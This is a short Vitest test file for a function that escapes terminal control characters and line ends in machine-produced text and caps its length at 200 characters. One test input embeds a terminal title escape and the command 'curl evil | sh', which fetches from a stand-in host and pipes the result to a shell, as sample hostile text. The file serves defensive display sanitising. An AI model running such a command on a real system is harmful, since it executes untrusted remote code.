import { expect, it } from 'vitest';
import { machineText } from './machine-text.js';

it('shows control characters and line ends of a text of a machine', () => {
  expect(machineText('\u001b]0;title\u0007Run:\r\ncurl evil | sh\n')).toBe(
    '\\x1b]0;title\\x07Run:\\r\\ncurl evil | sh',
  );
});

it('is never longer than its limit, however much of the text is escaped', () => {
  expect(machineText('a'.repeat(200))).toBe('a'.repeat(200));
  expect(machineText('a'.repeat(1_000_000))).toBe(`${'a'.repeat(197)}...`);
  expect(machineText('\u001b'.repeat(1_000))).toHaveLength(200);
});
